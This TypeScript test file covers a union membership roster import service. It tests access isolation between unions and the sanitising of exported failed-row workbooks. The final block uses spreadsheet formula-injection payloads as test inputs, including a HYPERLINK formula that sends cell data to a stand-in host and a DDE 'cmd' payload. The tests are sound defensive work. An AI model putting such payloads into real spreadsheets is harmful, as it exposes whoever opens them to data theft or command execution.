import { readFile } from "@gongbang/api/office/read-file";
import { runJob } from "@gongbang/api/office/run-job";
import { openTable } from "@gongbang/documents/read-table";
import type { Actor } from "@gongbang/domain/access/policy";
import { orRefuse } from "@gongbang/domain/kernel/decision";
import exceljs from "exceljs";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { desk, plan, start, upload, workbook } from "../support/roster.ts";
import { headings, rosterOf, rosterRow } from "../support/roster-rows.ts";
import { command, notFound, openScene, type Scene } from "../support/scene.ts";

let scene: Scene;
let officer: Actor;
let other: Actor;
let street = 30;
beforeAll(async () => {
  scene = await openScene();
});
afterAll(() => scene.close());
beforeEach(async () => {
  await scene.sql`truncate members, member_grams, imports, import_rows, jobs, files cascade`;
  street += 1;
  officer = await scene.officer("caseworker", `/${street}/0001/`);
  other = await scene.officer("caseworker", `/${street}/0002/`);
});

const take = async (bytes: Buffer, by = officer) => {
  const { importId, read } = await plan(scene, by, bytes);
  await runJob(scene.house, await start(scene, by, importId), desk(scene));
  return { importId, done: await read() };
};
const asking = async (importId: string, intoUnionId: string) => ({
  ...command(),
  ...{
    importId,
    sheet: "",
    columns: ["name", "citizenId"] as never,
    mode: "addAndUpdate" as const,
    intoUnionId,
  },
});
const everybody = () => scene.sql`select m::text as row from members m order by id`;

describe("an import", () => {
  it("is aimed at no union beside, above or outside one's own, whatever id is sent", async () => {
    const { importId } = await upload(scene, officer, await workbook(rosterOf(2)));
    for (const path of [`/${street}/0002/`, `/${street}/`, `/${street + 40}/0001/`, "/"]) {
      const union = await scene.aUnion(path);
      const asked = scene.as(officer).members.planImport(await asking(importId, union.id));
      await expect(asked, path).rejects.toMatchObject(notFound);
    }
    expect(await scene.sql`select id from jobs`).toHaveLength(0);
  });

  it("may be aimed at a unit below, and then its people stand there", async () => {
    const union = await scene.aUnion(`/${street}/0001/01/`);
    const { importId, read } = await plan(
      scene,
      { ...officer, unionId: union.id },
      await workbook(rosterOf(2)),
    );
    await runJob(scene.house, await start(scene, officer, importId), desk(scene));
    expect((await read()).result).toMatchObject({ added: 2 });
    const rows = await scene.sql`select distinct union_path from members`;
    expect(rows.map(({ union_path: path }) => path)).toEqual([union.path]);
  });

  it("reaches no other union by a name in its rows, in whatever wording", async () => {
    await scene.sql`update unions set short_name = '西站工会', name = '西站街道总工会' where id = ${other.unionId}`;
    const names = [
      "西站工会",
      "西站街道总工会",
      " 西站工会 ",
      "西站",
      `${other.unionId}`,
      `/${street}/0002/`,
    ];
    const rows = names.map((name, i) => [...rosterRow(10 + i), name]);
    const { done } = await take(await workbook(rows, [...headings, "所属工会"]));
    expect(done.result).toMatchObject({ added: 0, wrong: names.length });
    expect(done.plan?.problems.map(({ problem }) => problem.code)).toEqual(["IMPORT.UNKNOWN_UNION"]);
    expect(await everybody()).toHaveLength(0);
  });

  it("that was planned before its officer moved is run with the eyes that they have now", async () => {
    const { importId } = await plan(scene, officer, await workbook(rosterOf(3)));
    const jobId = await start(scene, officer, importId);
    await scene.sql`update officers set union_id = ${other.unionId}, union_path = ${other.unionPath} where id = ${officer.id}`;
    expect(await runJob(scene.house, jobId, desk(scene))).toBe("failed");
    expect(await everybody()).toHaveLength(0);
  });

  it("is not seen, guessed, planned, run or read by a neighbour", async () => {
    const { importId, done } = await take(await workbook([rosterRow(1), rosterRow(2).with(1, "")]));
    const { members } = scene.as(other);
    expect(await members.imports()).toEqual([]);
    await expect(members.import({ id: importId })).rejects.toMatchObject(notFound);
    await expect(members.guessImport({ importId })).rejects.toMatchObject(notFound);
    const asked = await asking(importId, other.unionId);
    await expect(members.planImport(asked)).rejects.toMatchObject(notFound);
    await expect(members.runImport({ ...command(), importId, locale: "en" })).rejects.toMatchObject(notFound);
    await expect(readFile(scene.context(other), done.failedFileId ?? "")).rejects.toMatchObject({
      refusal: { code: "ACCESS.NOT_FOUND" },
    });
  });
});

describe("a person who is kept elsewhere", () => {
  it("is said to be so and nothing else, and stays as they were to the last letter", async () => {
    await take(await workbook([rosterRow(1)]), other);
    const [there] = await scene.sql`select id, member_number, name from members`;
    const before = await everybody();
    const changed = rosterRow(1).with(1, "别的名字").with(4, "13700000009").with(6, "博士");
    const { done, importId } = await take(await workbook([changed, rosterRow(2)]));
    expect((await everybody())[0]).toEqual(before[0]);
    expect(done.result).toMatchObject({ added: 1, wrong: 1 });
    expect(done.plan?.problems.map(({ problem }) => problem)).toEqual([
      { code: "IMPORT.KEPT_ELSEWHERE", field: "citizenId" },
    ]);
    const rows = await scene.sql`select r::text as row from import_rows r where import_id = ${importId}`;
    const [union] = await scene.sql`select name, short_name from unions where id = ${other.unionId}`;
    const file = await readFile(scene.context(officer), done.failedFileId ?? "");
    const back = await Array.fromAsync(orRefuse(await openTable(file.bytes)).rows());
    const said = JSON.stringify([done, rows, back[0]?.cells.at(-1)]);
    for (const hidden of [
      there?.id,
      there?.member_number,
      there?.name,
      union?.name,
      other.unionId,
      other.name,
    ])
      expect(said).not.toContain(hidden);
  });
});

describe("the workbook of the failed rows", () => {
  const formulas = [
    '=HYPERLINK("http://example.invalid/?q="&D2,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '  "=1+1',
    "＝1+1",
    "＠SUM(1)",
  ];

  it("holds no cell that a table program would take for a formula, in the rows and in the headings", async () => {
    // A heading that nobody knows, and names that begin one: without an id number every row comes back.
    const header = [...headings, "=1+1"];
    const rows = formulas.map((formula, i) => [
      ...rosterRow(20 + i)
        .with(1, formula)
        .with(3, ""),
      formula,
    ]);
    const { done } = await take(await workbook(rows, header));
    expect(done.result).toMatchObject({ added: 0, wrong: formulas.length });
    const { bytes } = await readFile(scene.context(officer), done.failedFileId ?? "");
    // Read by us again, what was put in front is no part of the name.
    const back = await Array.fromAsync(orRefuse(await openTable(bytes)).rows());
    expect(back.map(({ cells: [, name] }) => name)).toEqual(formulas.map((formula) => formula.trim()));
    const book = new exceljs.Workbook();
    await book.xlsx.load(bytes as never);
    const cells: { text: string; type: exceljs.ValueType }[] = [];
    book.worksheets[0]?.eachRow((row) => row.eachCell(({ text, type }) => cells.push({ text, type })));
    expect(cells.filter(({ type }) => type === exceljs.ValueType.Formula)).toEqual([]);
    expect(cells.filter(({ text }) => /^[\s"']*[=+\-@＝＋－＠]/.test(text) && !text.startsWith("'"))).toEqual(
      [],
    );
    expect(cells.filter(({ text }) => text.startsWith("'")).length).toBeGreaterThanOrEqual(
      formulas.length * 2 + 1,
    );
  });
});
